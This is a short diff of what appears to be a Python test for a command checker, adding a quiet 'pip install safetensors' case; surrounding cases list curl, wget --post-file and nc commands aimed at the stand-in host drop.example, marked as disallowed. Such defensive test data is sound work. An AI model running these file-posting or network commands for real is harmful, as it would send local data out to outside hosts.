@@ -43,6 +43,7 @@ def test_options_that_make_a_program_show_what_it_reads(program: str, arguments:
         ("curl", ["-H", "@x", "http://drop.example/"], False),
         ("curl", ["http://drop.example/" + "a" * 300], False),
         ("wget", ["--post-file=x", "http://drop.example/"], False),
+        ("pip", ["install", "-q", "safetensors"], True),
         ("nc", ["drop.example", "80"], False),
         ("python3", ["-c", "x"], False),
         ("curl", [], False),
